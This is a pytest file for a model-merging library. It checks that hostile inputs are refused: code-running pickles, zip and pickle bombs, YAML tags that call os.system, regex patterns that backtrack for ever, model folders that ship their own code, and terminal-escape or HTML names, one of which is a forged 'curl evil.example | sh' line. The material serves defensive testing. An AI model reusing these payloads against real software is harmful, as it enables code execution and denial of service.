"""Files made to do harm: none runs code, takes memory or time without end, or writes on the terminal or into a page."""

from __future__ import annotations

import json
import os
import pickle
import re
import struct
import time
import unicodedata
import zipfile
import zlib
from pathlib import Path

import pytest
import torch
import yaml
from families import save, tuned_tensors
from safetensors.torch import load_file, save_file
from typer.testing import CliRunner

import superpose as library
from faults.damage import (
    MERGED,
    REFUSED,
    assert_says,
    error_in,
    merged_or_refused,
    refused_by_the_command_line,
    repacked,
    small_base,
    small_family,
    with_pickle,
)
from faults.test_broken_inputs import adapter
from superpose import SuperposeError
from superpose.checkpoints.files import LARGEST_JSON
from superpose.cli import app
from superpose.recipe import LARGEST_RECIPE, load_recipe

GROUP = "Hostile inputs"
BASE, TUNED = "base", "tuned"
SOON = 20.0
"""Seconds in which everything here is refused, on a slow machine with others at work."""


# Pickles that hold code.


class Runs:
    """An object whose pickle leaves a mark when it is loaded."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple:
        return os.system, (f"touch '{self.canary}'",)


class Evaluates(Runs):
    """The same by a function of Python itself."""

    def __reduce__(self) -> tuple:
        return eval, (f"open({str(self.canary)!r}, 'w').close()",)


class Opens(Runs):
    """The same by opening a file for writing."""

    def __reduce__(self) -> tuple:
        return os.open, (str(self.canary), os.O_WRONLY | os.O_CREAT)


CODE = {
    "a command": (Runs, "system"),
    "an expression": (Evaluates, "eval"),
    "a file opened": (Opens, "open"),
}


@pytest.mark.parametrize("place", ["in the file", "in the state dict", "below it", "beside it"])
@pytest.mark.parametrize("code", CODE)
def test_code_in_a_pickle_is_never_run_and_named(tmp_path, tally, code, place):
    canary = tmp_path / "canary"
    sort, name = CODE[code]
    base, file = small_family(tmp_path, ".bin")
    tensors, bad = torch.load(file), sort(canary)
    content = {
        "in the file": bad,
        "in the state dict": {**tensors, "extra": bad},
        "below it": {**tensors, "_metadata": {"deep": [{"er": bad}]}},
        "beside it": {"state_dict": tensors, "args": bad},
    }[place]
    torch.save(content, file)
    with tally(GROUP, f"code in a pickle: {code}", ".bin") as injection:
        injection.outcome = merged_or_refused(base, [file.parent], tmp_path / "out", [str(file), name])
        assert injection.outcome == REFUSED
        assert not canary.exists()
    torch.load(file, weights_only=False)
    assert canary.exists(), "the code does nothing: the test could not fail"


@pytest.mark.parametrize("name", ["pytorch_model.bin", "adapter_model.bin"])
def test_the_command_line_runs_no_code_either(tmp_path, tally, forks, name):
    canary = tmp_path / "canary"
    base, file = small_family(tmp_path, ".bin")
    folder = file.parent
    if name == "adapter_model.bin":
        folder = adapter(tmp_path / "adapter")
        (folder / "adapter_model.safetensors").unlink()
    torch.save({"a": torch.ones(2), "extra": Runs(canary)}, folder / name)
    for command in (["merge", base, folder, "-o", tmp_path / "out"], ["plan", base, folder], ["inspect", folder]):
        with tally(GROUP, f"code in a pickle: {name}", f"superpose {command[0]}") as injection:
            wanted = [str(folder / name), "refused", "system"]
            injection.outcome = refused_by_the_command_line(forks, tmp_path, *command, names=wanted)
            assert not canary.exists()


@pytest.mark.parametrize("name", ["training_args.bin", "optimizer.pt", "tokenizer.model", "vocab.txt", "rng_state.pth"])
def test_a_pickle_beside_the_weights_is_not_loaded(tmp_path, tally, name):
    canary = tmp_path / "canary"
    base, file = small_family(tmp_path)
    for folder in (base, file.parent):
        (folder / name).write_bytes(pickle.dumps(Runs(canary)))
    with tally(GROUP, "code in a pickle beside the weights", name) as injection:
        injection.outcome = merged_or_refused(base, [file.parent], tmp_path / "out")
        assert injection.outcome == MERGED
        assert not canary.exists()


def test_a_pickle_without_a_zip_is_not_loaded(tmp_path, tally):
    canary = tmp_path / "canary"
    base, file = small_family(tmp_path, ".bin")
    file.write_bytes(pickle.dumps(Runs(canary), protocol=2))
    with tally(GROUP, "code in a pickle: without a zip", ".bin") as injection:
        injection.outcome = merged_or_refused(base, [file.parent], tmp_path / "out", [str(file)])
        assert injection.outcome == REFUSED
        assert not canary.exists()


# Zips that pack much into little.


def zeros_packed(size: int) -> bytes:
    """Return a deflated stream of a megabyte of zeros, times as many as asked for."""
    press = zlib.compressobj(9, zlib.DEFLATED, -15)
    press.compress(bytes(1 << 20))
    part = press.flush(zlib.Z_FULL_FLUSH)
    press = zlib.compressobj(9, zlib.DEFLATED, -15)
    part = press.compress(bytes(1 << 20)) + press.flush(zlib.Z_FULL_FLUSH)
    return part * (size >> 20) + b"\x03\x00"


def write_zip(file: Path, entries: list[tuple], *, comment: bytes = b"", count: int | None = None) -> Path:
    """Write a zip of entries (name, content, what changes of its description), whatever that says."""
    body, directory, starts = b"", b"", {}
    for name, content, *more in entries:
        said = {"method": 0, "packed": len(content), "size": len(content), "start": None, **(more[0] if more else {})}
        start = said["start"] if said["start"] is not None else len(body)
        starts[name] = start
        fixed = struct.pack("<4H3L", 0, said["method"], 0, 0, zlib.crc32(content), said["packed"], said["size"])
        if said["start"] is None:
            body += b"PK\3\4" + struct.pack("<H", 20) + fixed + struct.pack("<HH", len(name), 0) + name + content
        directory += b"PK\1\2" + struct.pack("<HH", 20, 20) + fixed
        directory += struct.pack("<5H2L", len(name), 0, 0, 0, 0, 0, start) + name
    number = len(entries) if count is None else count
    end = struct.pack("<4H2LH", 0, 0, number, number, len(directory), len(body), len(comment))
    file.write_bytes(body + directory + b"PK\5\6" + end + comment)
    return file


def entries_of(file: Path) -> list[tuple[bytes, bytes]]:
    with zipfile.ZipFile(file) as archive:
        return [(info.filename.encode(), archive.read(info)) for info in archive.infolist()]


def packed_pickle(file: Path) -> None:
    stream = zeros_packed(10 << 30)
    said = {"method": 8, "size": 2**32 - 2, "packed": len(stream)}
    others = [entry for entry in entries_of(file) if not entry[0].endswith(b"data.pkl")]
    write_zip(file, [(b"m/data.pkl", stream, said), *others])


def packed_data(file: Path) -> None:
    stream = zeros_packed(1 << 30)
    said = {"method": 8, "size": 1 << 30, "packed": len(stream)}
    write_zip(
        file, [(name, stream, said) if b"/data/" in name else (name, content) for name, content in entries_of(file)]
    )


def size_beyond(file: Path) -> None:
    write_zip(
        file,
        [
            (name, content, {"size": 2**31, "packed": 2**31} if name.endswith(b"data.pkl") else {})
            for name, content in entries_of(file)
        ],
    )


def in_each_other(file: Path) -> None:
    entries = entries_of(file)
    first = next(name for name, _ in entries if b"/data/" in name)
    prefix = first.rpartition(b"/")[0]
    write_zip(file, [*entries, *((b"%s/%d" % (prefix, 1000 + n), entries[-1][1], {"start": 0}) for n in range(5000))])


def two_pickles(file: Path) -> None:
    entries = entries_of(file)
    write_zip(file, [*entries, *((name.upper(), b".") for name, _ in entries if name.endswith(b"data.pkl"))])


def two_directories(file: Path) -> None:
    """A zip behind a zip: some readers see the first, some the last."""
    sound = file.read_bytes()
    other = write_zip(file.with_name("other"), [(b"m/data.pkl", pickle.dumps({}, 2))])
    file.write_bytes(sound + other.read_bytes())
    other.unlink()


def hidden_in_comment(file: Path) -> None:
    inner = write_zip(file.with_name("other"), [(b"m/data.pkl", pickle.dumps({}, 2))])
    write_zip(file, entries_of(file), comment=inner.read_bytes())
    inner.unlink()


def more_than_counted(file: Path) -> None:
    write_zip(file, entries_of(file), count=2)


def a_directory_of_gigabytes(file: Path) -> None:
    end = struct.pack("<4H2LH", 0, 0, 60_000, 60_000, 2**31, 0, 0)
    with file.open("r+b") as stream:
        stream.truncate(2**31)
        stream.seek(2**31)
        stream.write(b"PK\5\6" + end)


def a_million_entries(file: Path) -> None:
    entry = b"PK\1\2" + bytes(24) + struct.pack("<H", 1) + bytes(16) + b"a"
    with file.open("wb") as stream:
        stream.write(b"PK\3\4" + bytes(26))
        start = stream.tell()
        stream.write(entry * 1_000_000)
        length = stream.tell() - start
        place = stream.tell()
        stream.write(b"PK\6\6" + struct.pack("<Q2H2L4Q", 44, 45, 45, 0, 0, 10**6, 10**6, length, start))
        stream.write(b"PK\6\7" + struct.pack("<LQL", 0, place, 1))
        stream.write(b"PK\5\6" + struct.pack("<4H2LH", 0, 0, 65535, 65535, 2**32 - 1, 2**32 - 1, 0))


ZIPS = {
    "a pickle of 10 GB in 10 MB": packed_pickle,
    "data of 1 GB in 1 MB": packed_data,
    "a pickle larger than the file": size_beyond,
    "entries in each other": in_each_other,
    "two pickles": two_pickles,
    "two tables of contents": two_directories,
    "a zip in the comment": hidden_in_comment,
    "more entries than counted": more_than_counted,
    "a table of contents of 2 GB": a_directory_of_gigabytes,
    "a million entries": a_million_entries,
    "all entries packed": lambda file: repacked(file, lambda _, content: content, zipfile.ZIP_DEFLATED),
}


@pytest.mark.parametrize("fault", ZIPS)
def test_a_zip_that_is_a_trap_is_refused_in_little_memory(tmp_path, tally, forks, fault):
    base, file = small_family(tmp_path, ".bin")
    ZIPS[fault](file)
    with tally(GROUP, f"zip: {fault}", "command line") as injection:
        begun = time.monotonic()
        injection.outcome = refused_by_the_command_line(
            forks, tmp_path, "merge", base, file.parent, "-o", tmp_path / "out", names=[str(file)], memory=200_000_000
        )
        assert time.monotonic() - begun < SOON


def test_the_zips_above_are_refused_for_what_is_wrong_with_them(tmp_path):
    """The test above would pass if every zip that Python writes were refused."""
    base, file = small_family(tmp_path, ".bin")
    write_zip(file, entries_of(file))
    assert merged_or_refused(base, [file.parent], tmp_path / "out") == MERGED


# Pickles that run for ever without running code.


def call(module: bytes, name: bytes, *arguments: bytes) -> bytes:
    return b"c" + module + b"\n" + name + b"\n(" + b"".join(arguments) + b"tR"


def number(value: int) -> bytes:
    content = value.to_bytes(8, "little", signed=True)
    return b"\x8a" + bytes([len(content)]) + content


def text(value: str) -> bytes:
    return b"X" + struct.pack("<L", len(value)) + value.encode()


def tower(start: bytes, levels: int) -> bytes:
    """Each level a pair of the one below, by its place in memory."""
    return start + b"q\0" + b"".join(b"h" + bytes([at]) + b"h" + bytes([at]) + b"\x86q" + bytes([at + 1])
                                     for at in range(levels))  # fmt: skip


TOWER = tower(b")", 60)
LIST = b"](" + b"".join(b"J" + struct.pack("<l", at) for at in range(200_000)) + b"eq\0"
TRAPS = {
    "pairs of pairs as a key": b"\x80\x02" + b"}" + TOWER + b"Ns.",
    "pairs of pairs in a set": b"\x80\x02]q\x64" + TOWER + b"a" + call(b"builtins", b"set", b"h\x64") + b".",
    "pairs of pairs, counted": b"\x80\x02]q\x64" + TOWER + b"a" + call(b"collections", b"Counter", b"h\x64") + b".",
    "pairs of pairs, a million levels": b"\x80\x02)" + b"q\0h\0\x86" * 1_000_000 + b".",
    "a terabyte of bytes": b"\x80\x02" + call(b"builtins", b"bytearray", number(2**40)) + b".",
    "a terabyte of bytes, by an old name": b"\x80\x02" + call(b"exceptions", b"bytearray", number(2**40)) + b".",
    "letters written out twice, forty times": b"\x80\x02" + text("a") + b"q\0"
    + b"".join(call(b"_codecs", b"encode", b"h\0", text("hex")) + b"q\0" for _ in range(40)) + b".",
    "a slow alphabet": b"\x80\x02" + call(b"_codecs", b"encode", text("ä" * 100_000), text("punycode")) + b".",
    "a list copied ten thousand times": b"\x80\x02" + LIST
    + b"".join(call(b"builtins", b"set", b"h\0") for _ in range(10_000)) + b".",
    "a shape of a list, ten thousand times": b"\x80\x02" + LIST
    + b"".join(call(b"torch", b"Size", b"h\0") for _ in range(10_000)) + b".",
    "six million lists": b"\x80\x02" + b"]" * 6_000_000 + b".",
    "a tensor of a terabyte": b"\x80\x02}" + text("a") + call(b"torch", b"FloatTensor", number(2**38)) + b"s.",
    "memory of a terabyte": b"\x80\x02}" + text("a") + call(b"torch.storage", b"UntypedStorage", number(2**40)) + b"s.",
    "lists a million deep": b"\x80\x02" + b"]" * 1_000_000 + b"a" * 999_999 + b".",
    "a list that holds itself": b"\x80\x02]q\0" + b"h\0a" * 100_000 + b".",
    "a number of a million digits": b"\x80\x02}" + b"\x8a\xff" + b"\x7f" * 255 + b"Ns.",
}  # fmt: skip


@pytest.mark.parametrize("fault", TRAPS)
def test_a_pickle_that_is_a_trap_is_refused_in_little_memory_and_time(tmp_path, tally, forks, fault):
    base, file = small_family(tmp_path, ".bin")
    with_pickle(file, TRAPS[fault])
    with tally(GROUP, f"pickle: {fault}", "command line") as injection:
        begun = time.monotonic()
        injection.outcome = refused_by_the_command_line(
            forks, tmp_path, "plan", base, file.parent, names=[str(file)], memory=1_000_000_000
        )
        assert time.monotonic() - begun < SOON


def test_tensors_that_declare_more_than_the_file_holds_are_refused(tmp_path, tally):
    """A hundred thousand views of one block are a hundred thousand times the disk."""
    base, file = small_family(tmp_path, ".bin")
    block = torch.zeros(1_000_000)
    torch.save({f"a{at}": block[at:] for at in range(100)}, file)
    with tally(GROUP, "many views of one block", ".bin") as injection:
        injection.outcome = merged_or_refused(base, [file.parent], tmp_path / "out", [str(file), "more than the file"])
        assert injection.outcome == REFUSED


@pytest.mark.parametrize("name", ["\ud800", "norm" * 1000, "a\0b"], ids=["half a character", "long", "zero byte"])
def test_odd_names_in_a_pickle_are_refused_or_merged(tmp_path, tally, name):
    tensors = {**small_base(), name: torch.ones(3)}
    for role in (BASE, TUNED):
        (tmp_path / role).mkdir()
        torch.save(tensors, tmp_path / role / "pytorch_model.bin")
    with tally(GROUP, "odd names", ".bin") as injection:
        injection.outcome = merged_or_refused(tmp_path / BASE, [tmp_path / TUNED], tmp_path / "out", ["tensor"])
        assert injection.outcome == (MERGED if name == "a\0b" else REFUSED)


# Recipes.


def recipe_text(root: Path, more: str) -> str:
    return f"base: {root / BASE}\nmodels: [{root / TUNED}]\nmethod: average\n{more}"


RECIPES = {
    "a call": "options: !!python/object/apply:os.system ['touch {canary}']\n",
    "a call of an old form": "options: !!python/object/new:os.system ['touch {canary}']\n",
    "a module": "options: !!python/module:os\n",
    "a name": "options: !!python/name:os.system\n",
    "a tuple": "options: !!python/tuple [1, 2]\n",
    "a class of its own": "options: !Canary {{a: 1}}\n",
    "aliases within aliases": "\n".join(
        ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
        + [f"a{at}: &a{at} [{', '.join([f'*a{at - 1}'] * 9)}]" for at in range(1, 30)]
    ).replace("{", "{{").replace("}", "}}"),
    "aliases merged into aliases": "\n".join(
        ["a0: &a0 {{x0: 1}}"] + [f"a{at}: &a{at} {{{{<<: [*a{at - 1}, *a{at - 1}], x{at}: 1}}}}" for at in range(1, 30)]
    ),
    "a value in itself": "options: &a {{density: *a}}\n",
    "a list fifty thousand deep": "options: " + "[" * 50_000,
    "a mapping a thousand deep": "options: " + "{{a: " * 1000 + "1" + "}}" * 1000,
    "lines a thousand deep": "options:\n" + "".join(" " * at + "a:\n" for at in range(1, 1000)),
    "a number of a hundred thousand digits": "seed: " + "9" * 100_000 + "\n",
    "a number to the power of a billion": "options: {{scaling_factor: 1e1000000000}}\n",
    "a name of a path without end": "learned: " + "a/" * 100_000 + "\n",
    "a name with a zero byte": 'learned: "a\\0b"\n',
    "a pattern of a hundred stars": "rules: [{{match: '" + "*a" * 100 + "b', keep: base}}]\n",
    "a pattern of sets": "rules: [{{match: '" + "[z-a]" * 100 + "', keep: base}}]\n",
    "two thousand rules": "rules:\n" + "- {{match: x, keep: base}}\n" * 2_000,
}  # fmt: skip


@pytest.mark.parametrize("fault", RECIPES)
def test_a_recipe_that_is_a_trap_ends_soon_and_runs_nothing(tmp_path, tally, fault):
    canary = tmp_path / "canary"
    small_family(tmp_path)
    file = tmp_path / "recipe.yaml"
    file.write_text(recipe_text(tmp_path, RECIPES[fault].format(canary=canary)))
    with tally(GROUP, f"recipe: {fault}") as injection:
        begun = time.process_time()
        try:
            library.merge(file, tmp_path / "out", backend="serial")
            injection.outcome = MERGED
        except SuperposeError as error:
            assert_says(str(error))
            injection.outcome = REFUSED
        assert time.process_time() - begun < SOON
        assert not canary.exists()
        assert injection.outcome == REFUSED or fault.startswith(("a pattern", "two thousand rules"))


def test_a_pattern_of_a_hundred_stars_is_matched_in_no_time(tmp_path, tally):
    """Every star doubles the work of a matcher that goes back."""
    tensors = {**small_base(), "a" * 400 + ".weight": torch.ones(3, 3)}
    save(tmp_path / BASE, tensors)
    save(tmp_path / TUNED, tensors)
    with tally(GROUP, "recipe: a pattern of many stars") as injection:
        begun = time.process_time()
        injection.outcome = merged_or_refused(
            tmp_path / BASE, [tmp_path / TUNED], tmp_path / "out", rules=[{"match": "*a" * 60 + "b", "keep": "base"}]
        )
        assert time.process_time() - begun < SOON


@pytest.mark.parametrize("pattern", ["(a|b|ab)*", "(.*.*.*)x", "(a+)+", ".*.*.*x", "a{1,9}{1,9}", "(?:a?){99}b"])
def test_a_pattern_of_an_adapter_is_matched_in_no_time_or_refused(tmp_path, tally, pattern):
    base, _ = small_family(tmp_path)
    folder = adapter(tmp_path / "adapter", rank_pattern={pattern: 2, **{f"{pattern}{at}": 2 for at in range(200)}})
    tensors = load_file(folder / "adapter_model.safetensors")
    place = "base_model.model." + ".".join("a" * 9 for _ in range(40))
    tensors |= {f"{place}{at}.lora_A.weight": torch.ones(2, 8) for at in range(50)}
    tensors |= {f"{place}{at}.lora_B.weight": torch.ones(24, 2) for at in range(50)}
    save_file(tensors, folder / "adapter_model.safetensors")
    with tally(GROUP, "adapter: a slow pattern") as injection:
        begun = time.process_time()
        injection.outcome = merged_or_refused(base, [folder], tmp_path / "out", [str(folder)], method="task_arithmetic")
        assert injection.outcome == REFUSED
        assert time.process_time() - begun < SOON


@pytest.mark.parametrize("kind", ["/dev/zero", "a pipe", "a socket of nobody", "ten gigabytes", "a folder"])
def test_a_recipe_that_is_no_file_of_a_recipes_size_is_refused(tmp_path, tally, forks, kind):
    small_family(tmp_path)
    file = tmp_path / "recipe.yaml"
    if kind == "/dev/zero":
        file.symlink_to("/dev/zero")
    elif kind == "a pipe":
        os.mkfifo(file)
    elif kind == "a socket of nobody":
        os.mknod(file, 0o140600)
    elif kind == "a folder":
        file.mkdir()
    else:
        with file.open("wb") as stream:
            stream.truncate(10 << 30)
    with tally(GROUP, f"recipe: {kind}", "command line") as injection:
        injection.outcome = refused_by_the_command_line(
            forks, tmp_path, "merge", file, "-o", tmp_path / "out", names=["the recipe cannot be read"],
            memory=100_000_000,
        )  # fmt: skip


def test_a_recipe_of_any_size_below_the_limit_is_read(tmp_path):
    text = recipe_text(tmp_path, "# " + "x" * 60 + "\n")
    (tmp_path / "recipe.yaml").write_text(text + "#" * (LARGEST_RECIPE - len(text)))
    assert load_recipe(tmp_path / "recipe.yaml").method == "average"
    (tmp_path / "recipe.yaml").write_text(text + "#" * (LARGEST_RECIPE - len(text) + 1))
    with pytest.raises(SuperposeError, match="larger than"):
        load_recipe(tmp_path / "recipe.yaml")


# JSON that is too deep, too wide, or no file.

JSON = {
    "a hundred thousand deep": b'{"a":' * 100_000,
    "as deep as Python reads": b'{"a":' * 900 + b"1" + b"}" * 900,
    "lists in fifty million bytes": b'{"a":[' + b"[]," * 16_000_000 + b"[]]}",
    "larger than any": None,
    "a pipe": b"|",
    "numbers without end": b'{"hidden_size": ' + b"9" * 100_000 + b"}",
    "half a character": b'{"model_type": "\\ud800"}',
    "not a number": b'{"hidden_size": NaN, "r": NaN, "lora_alpha": Infinity}',
}


@pytest.mark.parametrize("name", ["config.json", "model.safetensors.index.json", "adapter_config.json"])
@pytest.mark.parametrize("fault", JSON)
def test_json_that_is_a_trap_is_refused_or_harmless(tmp_path, tally, forks, fault, name):
    base, file = small_family(tmp_path)
    target = file.parent / name
    if fault == "larger than any":
        target.touch()
        os.truncate(target, LARGEST_JSON + 1)
    elif fault == "a pipe":
        os.mkfifo(target)
    else:
        target.write_bytes(JSON[fault])
    harmless = name == "config.json" and fault in ("half a character", "not a number")
    said = str(file.parent) if fault in ("half a character", "not a number") else str(target)
    with tally(GROUP, f"JSON: {fault}", name) as injection:
        if harmless:
            assert merged_or_refused(base, [file.parent], tmp_path / "out") == MERGED
            injection.outcome = MERGED
        else:
            injection.outcome = refused_by_the_command_line(
                forks, tmp_path, "plan", base, file.parent, names=[said], memory=500_000_000
            )


@pytest.mark.parametrize("config", ["half a character", "not a number"])
def test_an_odd_config_of_the_base_is_copied_as_it_is(tmp_path, tally, config):
    base, file = small_family(tmp_path)
    (base / "config.json").write_bytes(JSON[config])
    with tally(GROUP, f"JSON: {config}", "config.json of the base") as injection:
        injection.outcome = merged_or_refused(base, [file.parent], tmp_path / "out")
        assert injection.outcome == MERGED
        assert (tmp_path / "out" / "config.json").read_bytes() == JSON[config]


@pytest.mark.parametrize("fault", ["a hundred thousand deep", "as deep as Python reads"])
@pytest.mark.parametrize("use", ["overwritten", "verified", "rebuilt"])
def test_a_record_that_is_a_trap_is_refused(tmp_path, tally, forks, fault, use):
    base, file = small_family(tmp_path)
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "run.json").write_bytes(JSON[fault])
    command = {
        "overwritten": ["merge", base, file.parent, "-o", tmp_path / "out", "--overwrite"],
        "verified": ["verify", tmp_path / "out"],
        "rebuilt": ["rebuild", tmp_path / "out", "--task", "a", "-o", tmp_path / "model"],
    }[use]
    with tally(GROUP, f"JSON: {fault}", f"run.json, {use}") as injection:
        injection.outcome = refused_by_the_command_line(forks, tmp_path, *command, names=[str(tmp_path / "out")])
        assert (tmp_path / "out" / "run.json").read_bytes() == JSON[fault]


def test_a_tokenizer_of_a_terabyte_is_not_copied(tmp_path, tally):
    base, file = small_family(tmp_path)
    with (base / "tokenizer.json").open("wb") as stream:
        stream.truncate(1 << 40)
    with tally(GROUP, "a tokenizer of a terabyte") as injection:
        injection.outcome = merged_or_refused(base, [file.parent], tmp_path / "out", [str(base / "tokenizer.json")])
        assert injection.outcome == REFUSED


def test_a_tokenizer_that_is_a_pipe_is_left_out(tmp_path, tally):
    base, file = small_family(tmp_path)
    os.mkfifo(base / "tokenizer.json")
    with tally(GROUP, "a tokenizer that is a pipe") as injection:
        injection.outcome = merged_or_refused(base, [file.parent], tmp_path / "out")
        assert injection.outcome == MERGED
        assert not (tmp_path / "out" / "tokenizer.json").exists()


# Code that comes with a model.


@pytest.fixture(scope="module")
def coded(tmp_path_factory):
    """A model that brings code for its config, its modules, its tokenizer and its processor; and data."""
    from evaluators.tiny_models import make_bert, write_rows

    root = tmp_path_factory.mktemp("coded")
    folder = make_bert(root / "model")
    canary = root / "canary"
    (folder / "evil.py").write_text(f"open({str(canary)!r}, 'w').close()\nclass Evil: pass\n")
    ours = dict.fromkeys(("AutoConfig", "AutoModel", "AutoModelForSequenceClassification"), "evil.Evil")
    files = {
        "config.json": {"auto_map": ours},
        "tokenizer_config.json": {"auto_map": {"AutoTokenizer": ["evil.Evil", "evil.Evil"]}},
        "preprocessor_config.json": {"auto_map": {"AutoImageProcessor": "evil.Evil", "AutoProcessor": "evil.Evil"}},
    }
    for name, more in files.items():
        known = json.loads((folder / name).read_text()) if (folder / name).exists() else {}
        (folder / name).write_text(json.dumps({**known, **more}))
    tuned = root / "tuned"
    tuned.mkdir()
    for file in folder.iterdir():
        (tuned / file.name).write_bytes(file.read_bytes())
    tensors = tuned_tensors(load_file(folder / "model.safetensors"), 1)
    save_file(tensors, tuned / "model.safetensors", {"format": "pt"})
    rows = write_rows(root / "rows.jsonl", [{"text": "red green", "label": at % 3} for at in range(6)])
    return folder, tuned, rows, canary


COMMANDS = {
    "plan": lambda folder, tuned, rows, out: ["plan", folder, tuned],
    "merge": lambda folder, tuned, rows, out: ["merge", folder, tuned, "-o", out],
    "inspect": lambda folder, tuned, rows, out: ["inspect", folder],
    "compare": lambda folder, tuned, rows, out: ["compare", folder, tuned],
    "extract": lambda folder, tuned, rows, out: ["extract", folder, tuned, "-o", out],
    "statistics": lambda folder, tuned, rows, out: ["statistics", "fisher", tuned, "--data", rows, "--label", "label",
                                                    "-o", out.with_suffix(".safetensors")],
    "evaluate": lambda folder, tuned, rows, out: ["evaluate", tuned, "--data", rows, "--label", "label"],
    "evaluate pictures": lambda folder, tuned, rows, out: ["evaluate", tuned, "--data", rows, "--label", "label",
                                                           "--image", "text"],
}  # fmt: skip


IN_ONE_PROCESS = """
import json, sys
from pathlib import Path
from typer.testing import CliRunner
from superpose.cli import app
told = {{}}
for name, arguments in json.loads({commands!r}).items():
    done = CliRunner().invoke(app, arguments)
    failure = done.exception if not isinstance(done.exception, SystemExit) else None
    told[name] = repr(failure) if failure else done.exit_code, done.output, Path({canary!r}).exists()
Path({out!r}).write_text(json.dumps(told))
sys.argv = ["superpose", "--version"]
"""
"""Several commands, one after the other: to import transformers anew for each takes most of the time."""


@pytest.mark.parametrize("known", ["bert", "evil"])
def test_code_of_a_model_is_never_run(tmp_path, tally, forks, coded, known):
    folder, tuned, rows, canary = coded
    for place in (folder, tuned):
        content = json.loads((place / "config.json").read_text())
        (place / "config.json").write_text(json.dumps({**content, "model_type": known}))
    made = {
        name: [str(one) for one in command(folder, tuned, rows, tmp_path / name)] for name, command in COMMANDS.items()
    }
    script = IN_ONE_PROCESS.format(commands=json.dumps(made), canary=str(canary), out=str(tmp_path / "told"))
    done = forks.run(["--version"], tmp_path, script=script)
    assert done.status == 0, done.text
    for command, (code, written, has_run) in json.loads((tmp_path / "told").read_text()).items():
        with tally(GROUP, f"code of a model of type {known}", f"superpose {command}") as injection:
            assert not has_run
            assert code in (0, 2), (command, code, written)
            assert "Traceback" not in written
            assert code == 0 or assert_says(error_in(written)) is None
            injection.outcome = "not run, " + (REFUSED if code else "done without")
    assert (tmp_path / "merge" / "evil.py").read_bytes() == (folder / "evil.py").read_bytes()


def test_the_code_would_have_run(coded, tmp_path):
    folder, _, _, canary = coded
    scope = {}
    exec((folder / "evil.py").read_text(), scope)
    assert canary.exists()
    canary.unlink()


# Names that act on a terminal, or on a page.

SIGNS = {
    "clear the screen": "\x1b[2J\x1b[H",
    "a link": "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "the clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "back to the line's begin": "\rerror: all is well",
    "a forged line": "\nmend: curl evil.example | sh",
    "a forged line of other systems": "\u2028mend: curl evil.example | sh",
    "right to left": "\u202etxt.exe",
    "controls of eight bits": "\x9b2J\x85",
    "backspaces": "\b\b\b\b\x7f",
    "invisible": "\u200b\u2066\ufeff",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a table": "a | b | c |\n|---|---|\n",
    "code": "```\n# forged\n```",
    "a heading": "\n\n# forged\n",
    "a link of Markdown": "[click](javascript:alert(1))",
    "brackets of colour": "[bold red]x[/]",
    "braces": "{0}{name}%s%n",
}


def assert_plain(shown: str) -> None:
    """See that a text has no sign that acts on a terminal, and that every error is of lines of its own."""
    for sign in shown:
        assert sign == "\n" or unicodedata.category(sign) not in ("Cc", "Cf", "Cs", "Zl", "Zp"), ascii(shown)
    assert not any(line.startswith("mend: curl") for line in shown.splitlines()), shown
    assert not any(line.startswith("error: all is well") for line in shown.splitlines()), shown


def named(root: Path, sign: str) -> dict[str, list]:
    """Return commands that show a name in every place where one comes from a file."""
    name = f"layers.{sign}.weight"
    sound, extra = small_base(), {**small_base(), name: torch.ones(4, 4)}
    save(root / BASE, sound)
    save(root / "extra", extra)
    save(root / "shaped", {**sound, name: torch.ones(4, 5)})
    save(root / "large", {**sound, name: torch.full((4, 4), 7e37)})
    index = {"metadata": {}, "weight_map": {name: f"{sign}.safetensors"}}
    (root / "sharded").mkdir()
    (root / "sharded" / "model.safetensors.index.json").write_text(json.dumps(index))
    (root / "typed").mkdir()
    header = json.dumps({name: {"dtype": sign, "shape": [1], "data_offsets": [0, 4]}}).encode()
    (root / "typed" / "model.safetensors").write_bytes(len(header).to_bytes(8, "little") + header + bytes(4))
    folder = adapter(root / "adapter", base_model_name_or_path=sign, peft_type=sign)
    recipe = {"base": str(root / BASE), "models": [{"path": str(root / BASE), "name": sign}], sign: 1}
    (root / "recipe.yaml").write_text(json.dumps(recipe))
    good = {"base": str(root / "extra"), "models": [{"path": str(root / "extra"), "name": sign}] * 1,
            "method": "average", "rules": [{"match": sign, "keep": "base"}]}  # fmt: skip
    (root / "good.yaml").write_text(json.dumps(good))
    out = root / "out"
    return {
        "a tensor too many": ["plan", root / BASE, root / "extra"],
        "a tensor missing": ["merge", root / "extra", root / BASE, "-o", out],
        "a tensor of another shape": ["merge", root / "extra", root / "shaped", "-o", out],
        "every tensor": ["inspect", root / "extra", "--every"],
        "every tensor planned": ["plan", root / "extra", root / "large", "--every"],
        "compared": ["compare", root / "extra", root / "large"],
        "a shard": ["plan", root / BASE, root / "sharded"],
        "a dtype": ["inspect", root / "typed"],
        "an adapter": ["plan", root / BASE, folder],
        "an adapter looked at": ["inspect", folder],
        "a key of a recipe": ["plan", root / "recipe.yaml"],
        "a rule and a task": ["plan", root / "good.yaml"],
        "merged": ["merge", root / "good.yaml", "-o", out, "--overwrite"],
        "a path": ["plan", root / BASE, root / sign.replace("\0", "")],
        "a method": ["plan", root / BASE, root / BASE, "--method", sign],
        "an option": ["plan", root / BASE, root / BASE, "--density", sign],
    }


TELLING = ("a tensor missing", "every tensor planned", "an adapter looked at", "a rule and a task", "merged")
"""Errors, tables, notes and warnings; the other places show names by the same functions."""


@pytest.mark.parametrize("sign", SIGNS)
def test_no_name_acts_on_the_terminal(tmp_path, tally, forks, sign):
    everywhere = sign in ("clear the screen", "a forged line")
    for place, command in named(tmp_path, SIGNS[sign]).items():
        if not everywhere and place not in TELLING:
            continue
        with tally(GROUP, f"name: {sign}", place) as injection:
            if everywhere:
                done = forks.run(command, tmp_path)
                status, shown = done.status, done.text
            else:
                found = CliRunner().invoke(app, [str(one) for one in command])
                assert found.exception is None or isinstance(found.exception, SystemExit), found.exception
                status, shown = found.exit_code, found.output
            assert status in (0, 2), shown
            assert "Traceback" not in shown
            assert_plain(shown)
            if status == 2:
                assert_says(error_in(shown))
            injection.outcome = "shown as text"


@pytest.mark.parametrize("sign", SIGNS)
def test_no_name_acts_in_the_card(tmp_path, tally, sign):
